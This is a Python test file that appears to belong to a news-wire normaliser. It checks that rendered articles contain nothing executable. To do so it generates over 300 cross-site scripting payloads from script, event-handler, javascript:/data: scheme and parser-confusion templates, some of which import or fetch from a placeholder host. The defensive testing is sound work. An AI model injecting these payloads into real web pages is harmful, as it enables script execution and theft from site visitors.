"""Nothing in a story can act: 300 known ways to smuggle a script, through wire, article and report (CWE-79).

Payloads are families of tricks (elements that load, handlers, schemes, broken nesting, encodings) in every place of a
story that comes from outside. The report is parsed as a browser parses it, with html5lib's rules as lxml has them, and
looked through for anything that runs or loads.
"""

from __future__ import annotations

import json
import re
from contextlib import suppress
from html import escape
from itertools import product

import pytest
from lxml import html

from normalizers import normalize, read
from normalizers.canonical.text import render
from normalizers.errors import WireError
from normalizers.report.page import page
from normalizers.story import Article

CALLS = ("alert(1)", "alert`1`", "eval(name)", "import('//x.example')", "fetch('//x.example')")
ELEMENTS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<script\n>{}</script\t>",
    "<script/x>{}</script>",
    "<svg><script>{}",
    "<svg><script xlink:href=data:,{} />",
    "<math><mtext><script>{}</script>",
    "<noscript><p title='</noscript><script>{}'>",
    "<textarea></textarea><script>{}</script>",
    "<style></style><script>{}</script>",
    "</title><script>{}</script>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<<script>{}//<</script>",
    "<template><script>{}",
    "<xmp><p title='</xmp><script>{}</script>'>",
    "</style><script>{}</script>",
    "]]><script>{}</script>",
)
HANDLERS = (
    "<img src=x onerror={}>",
    '<img src=x onerror="{}"//',
    "<svg onload={}>",
    "<svg/onload={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<p onmouseover={}>x</p>",
    "<a onclick={}>x</a>",
    '" onmouseover="{}',
    "' onfocus='{}' x='",
    '<img src="x" onerror\n=\n{}>',
    "<IMG SRC=x ONERROR={}>",
    "<object data=x onerror={}>",
    "<select onfocus={} autofocus>",
    '<b style="animation:x" onanimationstart={}>',
    '<math><a xlink:href="javascript:{}">x</a>',
)
SCHEMES = (
    "<a href=javascript:{}>x</a>",
    '<a href="java\tscript:{}">x</a>',
    '<a href="&#106;avascript:{}">x</a>',
    '<a href=" javascript:{}">x</a>',
    "<a href=vbscript:{}>x</a>",
    "<iframe src=javascript:{}>",
    "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>x",
    "<button formaction=javascript:{}>x",
    "<iframe srcdoc='<script>{}</script>'>",
    "<a href=data:text/html,<script>{}</script>>x</a>",
    "<object data=javascript:{}>",
    "<base href=javascript:{}//>",
    "<meta http-equiv=refresh content=0;url=javascript:{}>",
    "<link rel=stylesheet href=javascript:{}>",
    "javascript:{}",
    "<style>@import 'javascript:{}';</style>",
    '<div style="background:url(javascript:{})">',
    "<isindex action=javascript:{}>",
    "<table background=javascript:{}>",
    "<svg><use href=data:,{}>",
    "<svg><animate xlink:href=#x values=javascript:{}>",
)
PAYLOADS = [form.format(call) for form, call in product((*ELEMENTS, *HANDLERS, *SCHEMES), CALLS)]
RUNS = frozenset(
    "script iframe frame object embed applet base link form svg math img video audio source input button".split()
)
ADDRESSES = frozenset("src href action formaction data background poster srcdoc cite longdesc".split())


def wires(payload: str) -> list[bytes]:
    """Return stories in four formats with a payload in their text, headline, byline and address."""
    plain = {"uri": f"urn:x:{payload}", "headline": f"The ferry {payload}", "byline": payload, "slugline": payload}
    body = f"The ferry sailed {payload} at dawn."
    marked = escape(payload)
    return [
        json.dumps(plain | {"body_text": body, "located": payload, "usageterms": payload}).encode(),
        json.dumps(plain | {"body_html": f"<p>{body}</p><p>{marked}</p>"}).encode(),
        f'<rss version="2.0"><channel><title>{marked}</title><item><title>The ferry {marked}</title>'
        f"<link>{marked}</link>"
        f"<guid>{marked}</guid><description>{escape(marked)} {marked}</description></item></channel></rss>".encode(),
        f"The ferry sails again\n\n{body}\n\nIt is due back {payload} at noon.\n".encode(),
    ]


def executable(page_: str) -> list[str]:
    """Return what a browser would run or load of a page."""
    found = []
    for one in html.document_fromstring(page_).iter():
        if not isinstance(one.tag, str):
            continue
        found += [one.tag] if one.tag in RUNS else []
        for name, value in one.items():
            link = name in ADDRESSES and not value.startswith("#")
            if name.startswith("on") or link or re.match(r"[\s\0]*(?:javascript|vbscript|data):", value, re.IGNORECASE):
                found.append(f"{one.tag} {name}={value}")
        if one.tag == "meta" and one.get("http-equiv", "").lower() == "refresh":
            found.append("refresh")
    return found


def articles(payload: str, turn: int) -> list[Article]:
    found = []
    for raw in wires(payload)[turn % 2 :: 2]:
        with suppress(WireError):
            found += [normalize(story) for story in read(raw)]
    return found


def test_there_are_enough() -> None:
    assert len(set(PAYLOADS)) >= 300


@pytest.mark.parametrize("part", range(6))
def test_nothing_of_a_story_runs(part: int) -> None:
    made = 0
    for turn, payload in enumerate(PAYLOADS[part::6]):
        for article in articles(payload, turn):
            made += 1
            shown = page(article)
            assert executable(shown) == [], payload
            assert "default-src 'none'" in shown
            assert render(article)
    assert made > 60


def test_the_search_finds_what_runs() -> None:
    """Else the test above could not fail."""
    missed = [
        form for form in (*ELEMENTS, *HANDLERS) if form[0] == "<" and not executable(f"<div>{form.format('x()')}")
    ]
    assert len(missed) < 12, missed
    assert executable('<a href="java&#115;cript:x()">x</a>')
